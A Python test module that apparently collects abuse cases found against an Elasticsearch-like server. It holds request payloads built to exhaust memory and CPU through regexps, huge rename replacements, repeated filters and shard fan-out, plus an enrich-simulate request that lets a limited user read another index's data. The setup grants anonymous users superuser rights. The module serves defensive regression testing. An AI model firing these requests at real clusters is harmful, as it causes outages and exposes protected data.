"""What a second attacker found on 30 November 2026: copies per document, ranking, shard and match of what a request says once; and loops without a check."""

import atexit
import base64
import json
import random
import shutil
import tempfile
import threading
import time

from case import OK, REFUSED, Case, Lines, abandoned, acts, rested

ANY = OK + REFUSED
ONE = {"number_of_shards": 1, "number_of_replicas": 0}
FOLDER = tempfile.mkdtemp(prefix="abuse-found-")
atexit.register(shutil.rmtree, FOLDER, ignore_errors=True)
SETTINGS = ["xpack.security.enabled=true", "xpack.security.authc.anonymous.username=everybody", "xpack.security.authc.anonymous.roles=superuser", f"path.repo={FOLDER}"]
LONG = "a" * 250
IDS = [str(n) for n in range(10_000)]
MANY_NAMES = "a," * 1_900


def ruleset(number):
    return {"rules": [{"rule_id": f"r{n}", "type": "pinned", "criteria": [{"type": "always"}],
                       "actions": {"ids": [f"some-long-common-prefix-{number}-{n}-{m}" for m in range(100)]}} for n in range(100)]}


SETUP = [
    ("PUT", "/odd", {"settings": ONE, "mappings": {"properties": {"k": {"type": "keyword"}, "t": {"type": "text", "term_vector": "with_positions_offsets"}}}}),
    ("POST", "/odd/_bulk?refresh=true", lambda: Lines([line for n in range(3_000) for line in ({"index": {"_id": str(n)}}, {"k": f"key{n}", "t": f"some words a b word{n}"})])),
    ("PUT", f"/{LONG}", {"settings": ONE, "aliases": {"x" * 250: {}}}),
    ("PUT", "/_snapshot/r", {"type": "fs", "settings": {"location": f"{FOLDER}/r"}}),
    ("PUT", "/_snapshot/r/s?wait_for_completion=true", {"indices": LONG, "include_global_state": False}),
    *[("PUT", f"/_query_rules/s{n}", lambda n=n: ruleset(n)) for n in range(10)],
    *[("PUT", f"/_security/role/r{n}", {"indices": [{"names": ["docs"], "privileges": ["read"]}]}) for n in range(200)],
    ("PUT", "/secret/_doc/1?refresh=true", {"s": "KEY", "h": "HIDDEN"}),
    ("PUT", "/mine", {"settings": ONE}),
    ("PUT", "/_enrich/policy/ep", {"match": {"indices": "secret", "match_field": "s", "enrich_fields": ["h"]}}),
    ("POST", "/_enrich/policy/ep/_execute", None),
    ("PUT", "/_security/role/ro", {"indices": [{"names": ["mine"], "privileges": ["all"]}]}),
    ("PUT", "/_security/user/u", {"password": "password1", "roles": ["ro"]}),
]
RULED = {"query": {"rule": {"organic": {"match_all": {}}, "match_criteria": {"q": "x"}, "ruleset_ids": [f"s{n}" for n in range(10)]}}}
CHANCE = random.Random(1)
PHRASES = [" ".join(CHANCE.choice("ab") for _ in range(20)) for _ in range(100)]
OVERLAPS = {"size": 20, "query": {"bool": {"should": [{"match": {"t": "a"}}, *[{"match_phrase": {"t": phrase}} for phrase in PHRASES]]}}, "highlight": {"fields": {"t": {"type": "fvh"}}}}


SHARDS = [("PUT", "/sh", {"settings": {"number_of_shards": 400, "number_of_replicas": 0}, "mappings": {"properties": {"k": {"type": "keyword"}}}})]


def escape(server):
    """A user with rights on his own index only reads what an enrich policy of others has copied."""
    caller = {"Authorization": "Basic " + base64.b64encode(b"u:password1").decode()}
    body = {"docs": [{"_index": "mine", "_source": {"s": "KEY"}}],
            "pipeline_substitutions": {"p": {"processors": [{"enrich": {"policy_name": "ep", "field": "s", "target_field": "e"}}]}}}
    status, answer = server.send("POST", "/_ingest/_simulate?pipeline=p", body, caller)
    yield (599 if b"HIDDEN" in answer else status), answer[:300]


def rules_and_searches(server):
    """Clients send searches with rules and are gone; searches of others go on meanwhile."""
    data = json.dumps(RULED).encode()
    for _ in range(8):
        threading.Thread(target=server.hang_up, args=("POST", "/odd/_search", data, 0.5), daemon=True).start()
    time.sleep(1.5)
    started = time.monotonic()
    status, answer = server.send("POST", "/odd/_search", {"size": 1}, timeout=60)
    took = time.monotonic() - started
    yield (599 if took > 3 else status), f"a search took {took:.1f} s: ".encode() + answer[:100]


def restore(name, body, **more):
    return rested(name, "POST", "/_snapshot/r/s/_restore?wait_for_completion=true", body, ANY, **{"seconds": 60, **more})


def fused(name, count, filters, **more):
    return rested(name, "POST", "/odd/_search", lambda: {"retriever": {"rrf": {
        "filter": {"terms": {"k": [f"f{n}" for n in range(filters)]}}, "rank_window_size": 10,
        "retrievers": [{"standard": {"query": {"match_all": {}}}}] * count}}}, ANY, **{"seconds": 60, **more})


def regexps(count):
    return lambda: {"query": {"bool": {"should": [{"wildcard": {"name": {"value": "/(a|b)*c.{200}%d/" % n}}} for n in range(count)]}}}


def nested(inner, levels):
    for _ in range(levels):
        inner = {"bool": {"must": [inner]}}
    return {"query": inner}


CASES = [
    # Privileges.
    acts("simulate_enrich_of_others", escape, ANY),
    # Rules pin documents; each is compared with all before it.
    acts("rules_and_searches", rules_and_searches, ANY, seconds=90),
    Case("rules_pin_many", "POST", "/odd/_search?timeout=1s", RULED, ANY, seconds=10),
    # Lists of users' entries.
    abandoned("entries_sorted_gone", "POST", "/_security/_query/role", lambda: {"sort": ["metadata.x"] * 50_000}, clients=4),
    rested("entries_deep", "POST", "/_security/_query/role", lambda: nested({"ids": {"values": [1] * 90_000}}, 19), ANY),
    rested("has_privileges_of_applications", "POST", "/_security/user/_has_privileges", lambda: {"application": [
        {"application": f"a{n}", "privileges": [f"p{m}" for m in range(100)], "resources": [f"r{m}" for m in range(100)]} for n in range(100)]}, ANY),
    # What the URL or `parameters` say, once per document.
    rested("mget_filters", "POST", f"/odd/_mget?_source_includes={MANY_NAMES}", {"ids": IDS}, ANY),
    rested("mget_stored_fields", "POST", f"/odd/_mget?stored_fields={MANY_NAMES}", {"ids": IDS}, ANY),
    rested("mtermvectors_document", "POST", "/odd/_mtermvectors", lambda: {"docs": [{}] * 10_000, "parameters": {"doc": {"t": "a b c " * 10_000}}}, ANY, seconds=60),
    # Searches that templates make are all held.
    *[rested(f"rank_eval_templates_{count}", "POST", "/odd/_rank_eval", lambda count=count: {
        "metric": {"precision": {"k": 10}}, "templates": [{"id": "t", "template": {"source": {"query": {"terms": {"k": ["k"] * 20_000}}}}}],
        "requests": [{"id": str(n), "ratings": [], "template_id": "t", "params": {}} for n in range(count)]}, ANY, seconds=60) for count in (300,)],
    # A replacement for each character of a name.
    restore("restore_renamed_index", lambda: {"rename_pattern": "", "rename_replacement": "b" * 800_000}),
    restore("restore_renamed_each", lambda: {"rename_pattern": "a", "rename_replacement": "$0" * 500_000}),
    restore("restore_renamed_alias", lambda: {"rename_pattern": "a+", "rename_replacement": "b", "rename_alias_pattern": "", "rename_alias_replacement": "b" * 800_000}),
    # A filter is copied and parsed for each ranking.
    fused("rrf_filter_40000", 100, 40_000),
    fused("rrf_filter_100000", 100, 100_000),
    rested("rrf_filters_nested", "POST", "/odd/_search", lambda: {"retriever": {"rrf": {"filter": {"terms": {"k": IDS}}, "retrievers": [
        {"rrf": {"filter": {"terms": {"k": IDS}}, "retrievers": [{"standard": {"query": {"match_all": {}}}}] * 20}}] * 20}}}, ANY, seconds=60),
    # A long term, once per shard.
    rested("validate_all_shards", "POST", "/sh/_validate/query?explain=true&rewrite=true&all_shards=true", lambda: {"query": {"term": {"k": "x" * 500_000}}}, ANY, setup=SHARDS),
    rested("profile_long_term", "POST", "/sh/_search", lambda: {"profile": True, "query": {"term": {"k": "x" * 500_000}}}, ANY, setup=SHARDS),
    # Loops without a check.
    Case("fvh_overlaps", "POST", "/odd/_search?timeout=1s", OVERLAPS, ANY, seconds=10),
    Case("analyze_attributes", "POST", "/_analyze", lambda: {"explain": True, "attributes": ["payloax"] * 60_000, "text": "a " * 9_999, "tokenizer": "standard"}, ANY, seconds=10),
    abandoned("analyze_attributes_gone", "POST", "/_analyze", lambda: {"explain": True, "attributes": ["payloax"] * 60_000, "text": "a " * 9_999, "tokenizer": "standard"}, clients=6),
    Case("simulate_substitutions", "POST", "/_ingest/_simulate", lambda: {"docs": [{"_index": "a", "_source": {}}], "pipeline_substitutions": {f"p{n}": {"processors": []} for n in range(10_000)}}, ANY, seconds=10),
    abandoned("simulate_substitutions_gone", "POST", "/_ingest/_simulate", lambda: {"docs": [{"_index": "a", "_source": {}}], "pipeline_substitutions": {f"p{n}": {"processors": []} for n in range(10_000)}}, clients=6),
    Case("script_fields_status", "POST", "/odd/_search", lambda: {"size": 3_000, "script_fields": {"a": {"script": {"source": "params.p", "params": {"p": ["x"] * 3_000}}}}}, (200, 413, 429)),
    # Names of users' entries: expressions that are compiled without a charge. Ten thousand take 4.4 GB, so they come last.
    rested("entries_regexps_500", "POST", "/_security/_query/role", regexps(500), ANY),
    rested("entries_regexps_1000", "POST", "/_security/_query/role", regexps(1_000), ANY, seconds=60),
]
